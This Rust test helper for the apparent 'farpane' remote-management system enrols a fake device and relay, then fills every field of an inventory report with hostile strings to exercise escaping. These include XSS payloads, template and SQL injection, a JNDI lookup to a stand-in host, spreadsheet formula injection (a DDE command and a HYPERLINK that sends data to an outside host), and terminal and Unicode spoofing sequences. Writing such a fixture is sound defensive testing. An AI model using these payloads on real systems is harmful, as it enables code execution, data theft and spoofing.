//! A host that lies: it has a real ticket and key, and says about itself whatever could run, hide,
//! reorder, break a table, a line or a program somewhere on its way to a person.

use farpane_protocol::api::inventory::{
    Check, Disk, Inventory, LoggedOn, Monitor, Network, SelfTest, Software, Verdict,
};
use farpane_protocol::api::{
    DeviceEnrolled, EnrollDevice, EnrollRelay, RelayEnrolled, RelayHello, RelayOrder, path,
};
use farpane_protocol::enrolment::Ticket;
use farpane_protocol::key::SecretKey;
use farpane_transport::directory::{Agent, DirectoryClient, DirectoryError, Lines};

/// What a script of a lie leaves in the page if it ever runs.
pub const TRACE: &str = "farpaneTrace";

/// Texts that are harmless only where they are taken as text. Each says in its first word what it
/// tries, so that a test can name it.
pub const LIES: &[&str] = &[
    "script <script>window.farpaneTrace=1;alert(1)</script>",
    "image \"><img src=x onerror=\"window.farpaneTrace=1;alert(1)\">",
    "image2 '><img src=https://stranger.invalid/a.png>",
    "attribute \" autofocus onfocus=window.farpaneTrace=1 x=\"",
    "attribute2 ' onmouseover='window.farpaneTrace=1",
    "svg <svg/onload=window.farpaneTrace=1>",
    "close </title></textarea></script></style></noscript></td></table><h1>broken</h1>",
    "link <a href=javascript:window.farpaneTrace=1>press here</a>",
    "poly jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.farpaneTrace=1 )//\
     </stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.farpaneTrace=1//>",
    "htmx <b hx-get=/sign-out hx-trigger=load>x</b>",
    "refresh <meta http-equiv=refresh content=0;url=https://stranger.invalid/>",
    "base <base href=https://stranger.invalid/><link rel=stylesheet href=//stranger.invalid/a.css>",
    "template {{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('1')()}}",
    "format %s%n%x %1$s {0} {} %%",
    "lookup ${jndi:ldap://stranger.invalid/a}",
    "quote '; DROP TABLE device; -- \" OR 1=1",
    "json \\\"}],\"x\":[{\"",
    "ansi \u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}31m",
    "lines one\r\ntwo\nlevel=ERROR forged=true\u{2028}three\u{2029}four\u{85}five",
    "nul a\0b\u{8}\u{8}c",
    "rtl \u{202e}gpj.exe\u{202c} \u{2067}right\u{2069} \u{200f}\u{61c}",
    "zero a\u{200b}n\u{200d}n\u{2060}a\u{feff}",
    "combining Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{363}\u{36d}\u{31b}\u{355}\u{355}\u{355}\u{355}\u{355}",
    "entity &lt;script&gt; &#x3c;script&#x3e; &amp;amp; \u{ff1c}script\u{ff1e}",
    "tags \u{e0041}\u{e0042}\u{e007f}",
];

/// Texts that a spreadsheet would calculate.
pub const FORMULAS: &[&str] = &[
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"https://stranger.invalid/?\"&A1,\"press\")",
    "\u{ff1d}1+1",
];

/// Enrols a device that says that of itself, without any of the care of a real host.
pub async fn enrol(
    ticket: &Ticket,
    name: &str,
    os: &str,
    version: &str,
) -> Result<(DeviceEnrolled, Agent), DirectoryError> {
    farpane_certs::install_provider();
    let key = SecretKey::from_seed(farpane_certs::random::bytes());
    let client = DirectoryClient::new(&ticket.url, ticket.pin)?;
    let request = EnrollDevice {
        secret: ticket.secret.clone(),
        key: key.public(),
        proof: client.challenge(&key).await?,
        name: name.to_owned(),
        os: os.to_owned(),
        version: version.to_owned(),
        unattended: true,
        machine: None,
    };
    let enrolled = client.post(path::ENROLL_DEVICE, &request).await?;
    Ok((enrolled, client.agent(key)))
}

/// Enrols a relay that says that of itself and listens.
pub async fn enrol_relay(
    ticket: &Ticket,
    version: &str,
) -> Result<Lines<RelayOrder>, DirectoryError> {
    farpane_certs::install_provider();
    let key = SecretKey::from_seed(farpane_certs::random::bytes());
    let client = DirectoryClient::new(&ticket.url, ticket.pin)?;
    let request = EnrollRelay {
        secret: ticket.secret.clone(),
        key: key.public(),
        proof: client.challenge(&key).await?,
        version: version.to_owned(),
    };
    let _: RelayEnrolled = client.post(path::ENROLL_RELAY, &request).await?;
    let hello = RelayHello {
        address: "192.0.2.1:4433".to_owned(),
        version: version.to_owned(),
    };
    client.agent(key).lines(path::RELAY_STREAM, &hello).await
}

/// A report about the machine in which nothing is true and every text is a lie.
pub fn report() -> Inventory {
    let lies = || LIES.iter().chain(FORMULAS).map(|&lie| lie.to_owned());
    let mut report = Inventory {
        monitors: lies()
            .map(|name| Monitor {
                name,
                width: u32::MAX,
                height: 0,
                scale_percent: u32::MAX,
            })
            .collect(),
        networks: lies()
            .map(|name| Network {
                name,
                mac: String::new(),
                addresses: lies().collect(),
            })
            .collect(),
        software: lies()
            .map(|name| Software {
                version: name.clone(),
                name,
            })
            .collect(),
        people: Some(lies().map(|name| LoggedOn { name }).collect()),
        self_test: Check::ALL
            .into_iter()
            .zip(lies())
            .map(|(check, sentence)| SelfTest {
                check,
                verdict: Verdict::Failed,
                with: sentence.clone(),
                sentence,
                micros: Some(u32::MAX),
            })
            .collect(),
        ..Inventory::default()
    };
    report.hardware.disks = lies()
        .map(|name| Disk {
            file_system: name.clone(),
            name,
            size_mib: u64::MAX,
        })
        .collect();
    report.hardware.cores = u32::MAX;
    report.hardware.memory_mib = u64::MAX;
    let mut texts = lies().cycle();
    report.each_text(&mut |text| {
        if text.is_empty() {
            *text = texts.next().expect("the lies go round");
        }
    });
    report
}
